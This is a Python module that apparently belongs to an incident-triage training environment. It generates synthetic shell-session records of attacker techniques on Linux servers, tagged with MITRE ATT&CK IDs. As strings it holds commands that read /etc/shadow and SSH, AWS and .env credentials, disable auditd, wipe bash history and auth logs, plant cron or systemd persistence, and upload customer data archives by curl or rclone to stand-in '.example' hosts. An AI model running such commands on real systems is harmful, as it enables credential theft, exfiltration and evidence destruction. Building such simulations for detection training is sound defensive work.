"""Acts on Linux servers, all of them in remote sessions."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta
from typing import TYPE_CHECKING

from fleetgym_env_incident_triage.acts.act import Act, Rule, Written
from fleetgym_estate.drawing import one, some
from fleetgym_estate.trail import Process, Trail, login

if TYPE_CHECKING:
    from collections.abc import Sequence

    from numpy.random import Generator

    from fleetgym_estate.estate import Estate

__all__ = ["RULES"]

# Words of commands that look at what a rule is about without touching it.
_LOOKS = ("ls -l {0}", "stat {0}", "chmod 600 {0}", "test -s {0}")
_CREDENTIALS = {
    "T1552.004": (
        "/home/{user}/.ssh/id_ed25519",
        "/home/{user}/.ssh/id_rsa",
        "/root/.ssh/id_rsa",
        "/home/{other}/.ssh/id_ed25519",
    ),
    "T1003.008": ("/etc/shadow",),
    "T1552.001": (
        "/home/{user}/.aws/credentials",
        "/srv/app/.env",
        "/opt/app/current/.env",
        "/var/lib/postgresql/.pgpass",
        "/srv/app/settings.py",
    ),
}
_READS = ("cat {0}", "cp {0} /var/tmp/.{1}", "base64 -w0 {0}", "tar -cf /var/tmp/{1}.tar {0}")
_AUTOSTART = {
    "T1053.003": "/etc/cron.d/{word}",
    "T1543.002": "/etc/systemd/system/{word}.service",
    "T1098.004": "/home/{user}/.ssh/authorized_keys",
}
_WORDS = (
    *("sysstat-collect", "logrotate-extra", "motd-refresh", "tmp-sweep", "agent-refresh"),
    *("metrics-push", "cert-renew", "disk-report", "mirror-sync", "cache-warm"),
)
_TAMPERING: dict[str, tuple[str, ...]] = {
    "T1562.012": ("auditctl -e 0", "systemctl stop auditd", "auditctl -D", "service auditd stop"),
    "T1070.003": (
        "rm -f /home/{user}/.bash_history",
        "ln -sf /dev/null /home/{user}/.bash_history",
        "truncate -s 0 /home/{user}/.bash_history",
    ),
    "T1070.002": (
        "truncate -s 0 /var/log/auth.log",
        "sed -i /{user}/d /var/log/auth.log",
        "shred -n 1 /var/log/secure",
        "truncate -s 0 /var/log/syslog",
    ),
}
_HARMLESS = (
    *("auditctl -s", "systemctl status auditd", "tail -n 50 /var/log/auth.log"),
    *("wc -l /var/log/syslog", "tail -n 20 /var/log/secure", "auditctl -l"),
)
_ARCHIVES = (
    ("/usr/bin/tar", "tar -czf {file} {data}"),
    ("/usr/bin/zip", "zip -qr {file} {data}"),
    ("/usr/bin/pg_dump", "pg_dump -Fc -f {file} {base}"),
)
_DATA = ("/srv/data/customers", "/var/lib/app/exports", "/srv/files/contracts", "/opt/app/uploads")
_OUTSIDE = ("share-bay", "dropyard", "filemoor", "packlake", "sendgrove", "cloudharbor")


@dataclass(frozen=True, slots=True)
class _Session:
    """Somebody's shell on a server, and what is typed into it."""

    trail: Trail
    shell: Process

    @classmethod
    def of(cls, estate: Estate, rng: Generator, act: Act) -> _Session:
        shell = Process(
            host=estate.host_by_name[act.asset],
            path="/usr/bin/bash",
            command="-bash",
            account=act.account,
            parent="sshd",
            remote_ip=act.origin,
        )
        return cls(Trail(rng), shell)

    def type(self, act: Act, second: float, command: str, *, core: bool, root: bool) -> Process:
        """Run a command, by ``sudo`` if it takes root; return the process that does it."""
        at = act.at + timedelta(seconds=second)
        path = f"/usr/bin/{command.split(maxsplit=1)[0]}"
        if not root or self.shell.account == "root":
            return self.trail.start(at, self.shell, path, command, asked_for=core)
        sudo = self.trail.start(
            at, self.shell, "/usr/bin/sudo", f"sudo {command}", account="root", asked_for=core
        )
        return self.trail.start(at + timedelta(milliseconds=180), sudo, path, command)

    def written(self, technique: str) -> Written:
        return Written(technique=technique, events=self.trail.events)


def _names(estate: Estate, rng: Generator, act: Act) -> dict[str, str]:
    people = [user.name for user in estate.linux_users if user.name != act.account]
    user, other = some(rng, people, 2)
    return {"user": user, "other": other, "word": one(rng, _WORDS)}


def _gaps(rng: Generator, count: int) -> Sequence[float]:
    """Return seconds after the begin, ascending, the first of them 0."""
    return [0.0, *sorted(rng.uniform(4, 240, count - 1).tolist())]


def _remote_session(estate: Estate, rng: Generator, act: Act) -> Written:
    host = estate.host_by_name[act.asset]
    trail = Trail(rng)
    server = login(host, act.account, act.origin, terminal=True)
    shell = trail.start(act.at, server, "/usr/bin/bash", "-bash", asked_for=True)
    looks = ("id", "w", "uname -a", "df -h", "ps aux", "ls -la", "last -n 5", "uptime")
    for second, command in zip(_gaps(rng, 3), some(rng, looks, 3), strict=True):
        at = act.at + timedelta(seconds=3 + second)
        trail.start(at, shell, f"/usr/bin/{command.split()[0]}", command)
    inside = act.origin.startswith("10.")
    return Written(technique="T1021.004" if inside else "T1133", events=trail.events)


def _autostart(estate: Estate, rng: Generator, act: Act) -> Written:
    session, names = _Session.of(estate, rng, act), _names(estate, rng, act)
    technique = one(rng, tuple(_AUTOSTART))
    path = _AUTOSTART[technique].format(**names)
    if not act.effective:
        path = one(rng, ("/srv/review", "/srv/stage", "/opt/mirror")) + path
    staged = f"/var/tmp/{names['word']}-{rng.bytes(2).hex()}"  # noqa: S108  # a name in a row
    session.type(act, 0, f"cp {staged} {path}", core=True, root=True)
    writer = Process(
        host=session.shell.host,
        path="/usr/bin/cp",
        command=f"cp {staged} {path}",
        account="root",
        parent="sudo",
        remote_ip=act.origin,
    )
    at = act.at + timedelta(milliseconds=420)
    session.trail.touch(at, writer, path, asked_for=True)
    after = one(
        rng, (f"chown root:root {path}", f"chmod 644 {path}", f"touch -r /etc/hosts {path}")
    )
    session.type(act, float(rng.uniform(2, 20)), after, core=True, root=True)
    return session.written(technique)


def _credentials(estate: Estate, rng: Generator, act: Act) -> Written:
    session, names = _Session.of(estate, rng, act), _names(estate, rng, act)
    technique = one(rng, tuple(_CREDENTIALS))
    files = [path.format(**names) for path in _CREDENTIALS[technique]]
    verbs = _READS if act.effective else _LOOKS
    count = int(rng.integers(2, 5))
    for second, verb in zip(
        _gaps(rng, count), [one(rng, verbs) for _ in range(count)], strict=True
    ):
        command = verb.format(one(rng, files), rng.bytes(2).hex())
        session.type(act, second, command, core=True, root=True)
    return session.written(technique)


def _tampering(estate: Estate, rng: Generator, act: Act) -> Written:
    session, names = _Session.of(estate, rng, act), _names(estate, rng, act)
    technique = one(rng, tuple(_TAMPERING))
    options = _TAMPERING[technique] if act.effective else _HARMLESS
    commands = [word.format(**names) for word in some(rng, options, 2)]
    for second, command in zip(_gaps(rng, 2), commands, strict=True):
        session.type(act, second, command, core=True, root=True)
    return session.written(technique)


def _outbound_copy(estate: Estate, rng: Generator, act: Act) -> Written:
    session = _Session.of(estate, rng, act)
    data = one(rng, _DATA)
    file = f"/var/tmp/{one(rng, _WORDS)}-{rng.bytes(2).hex()}.tgz"  # noqa: S108  # a name in a row
    words = {"file": file, "data": data, "base": data.rpartition("/")[2]}
    path, packing = one(rng, _ARCHIVES)
    at = act.at + timedelta(seconds=1)
    session.trail.start(at, session.shell, path, packing.format(**words), asked_for=True)
    domain = f"{one(rng, _OUTSIDE)}.example"
    pretend = ""
    if not act.effective:
        if rng.random() < 0.4:
            pretend = " --dry-run"
        else:
            domain = f"{one(rng, ('backup', 'files', 'archive'))}.{estate.domain}"
    options = {
        "T1567.002": f"rclone copy {file} {domain.partition('.')[0]}:{words['base']}",
        "T1048.002": f"curl -sS -T {file} https://{domain}/in/{words['base']}",
        "T1048.003": f"curl -sS -T {file} ftp://{domain}/in/",
    }
    if pretend:
        technique, command = "T1567.002", options["T1567.002"] + pretend
    else:
        # A remote of rclone has no domain to know our own by.
        kinds = tuple(options) if act.effective else ("T1048.002", "T1048.003")
        technique = one(rng, kinds)
        command = options[technique]
    session.type(act, float(rng.uniform(20, 200)), command, core=True, root=False)
    return session.written(technique)


_SCANNED = frozenset({"approved_change", "emergency_drill", "sanctioned_scan", "routine_work"})
_OWNED = frozenset({"approved_change", "emergency_drill", "routine_work"})

RULES = (
    Rule(
        name="linux-remote-session",
        title="Remote session from an unusual origin on {entity}",
        activity="remote session",
        write=_remote_session,
        about_origins=True,
        refusable=False,
        reasons=frozenset({"approved_change", "emergency_drill", "sanctioned_scan"}),
    ),
    Rule(
        name="linux-autostart",
        title="Start-up or access configuration written on {entity}",
        activity="start-up configuration",
        write=_autostart,
        reasons=_OWNED,
    ),
    Rule(
        name="linux-credentials",
        title="Credential store touched on {entity}",
        activity="credential maintenance",
        write=_credentials,
        reasons=_SCANNED,
    ),
    Rule(
        name="linux-outbound-copy",
        title="Data copied out of {entity}",
        activity="data transfer",
        write=_outbound_copy,
        reasons=_OWNED,
    ),
    Rule(
        name="linux-log-tampering",
        title="Audit or log tampering on {entity}",
        activity="log maintenance",
        write=_tampering,
        reasons=_SCANNED,
    ),
)
